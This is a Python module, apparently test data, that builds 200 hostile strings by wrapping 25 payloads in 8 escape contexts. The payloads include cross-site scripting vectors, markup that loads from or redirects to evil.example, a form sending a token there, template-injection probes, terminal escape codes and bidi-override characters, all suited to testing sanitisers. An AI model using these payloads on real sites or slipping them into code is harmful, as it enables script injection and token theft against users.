"""Two hundred texts that would do harm as markup, in an attribute, in a template or on a terminal."""

_ACTS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=token>",
    "<object data=//evil.example></object>",
    "<!-- ",
    "<![CDATA[<b>x</b>]]>",
    "<?xml version='1.0'?>",
    "</td></tr></table></main><h1>all is well</h1>",
    "<template><b>x</b></template>",
    "{{ 7 * 7 }}{% raw %}",
    "${7*7}",
    "&lt;b&gt;&#60;b&#62;&amp;",
    "\x1b[2J\x1b]0;title\x07",
    "\u202eevil\u2066x\u2069",
)
_AROUND = ("{}", '"{}', "'{}", '">{}', "'>{}", "-->{}", "</textarea>{}", "\x00{}\r\n\ndata: {}")

HOSTILE = tuple(around.replace("{}", act) for act in _ACTS for around in _AROUND)
